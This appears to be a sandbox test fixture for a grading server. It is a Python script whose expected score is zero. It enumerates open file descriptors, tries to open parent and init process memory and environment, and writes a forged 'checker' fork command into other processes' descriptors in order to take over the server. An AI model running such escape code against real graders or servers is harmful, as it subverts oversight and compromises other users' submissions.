"""Speaks to the warm server: through any descriptor left open, its parent's memory, its controls.

Who owns the server owns every submission after this one.
"""
# from: blank
# expect: score=0

# %% total
import json
import os
import socket
import stat
import struct
from pathlib import Path

header = json.dumps({"op": "fork", "role": "checker"}).encode()
frame = struct.pack(">IQ", len(header), 0) + header
for number in range(256):
    try:
        kind = os.fstat(number).st_mode
    except OSError:
        continue
    print(number, os.readlink(f"/proc/self/fd/{number}"))
    if stat.S_ISDIR(kind):
        print("OPEN-DOOR: a folder", number)
for process in (1, os.getppid()):
    for name in ("mem", "environ", "fd"):
        path = Path("/proc", str(process), name)
        try:
            print("OPEN-DOOR", path, os.listdir(path) if name == "fd" else open(path, "r+b"))
        except OSError as error:
            print(path, error)
for path in Path("/proc").glob("[0-9]*/fd/*"):
    try:
        if path.parts[2] not in ("self", str(os.getpid())):
            with open(path, "wb", 0) as other:
                other.write(frame)
                print("OPEN-DOOR", path)
    except OSError as error:
        print(path, error)
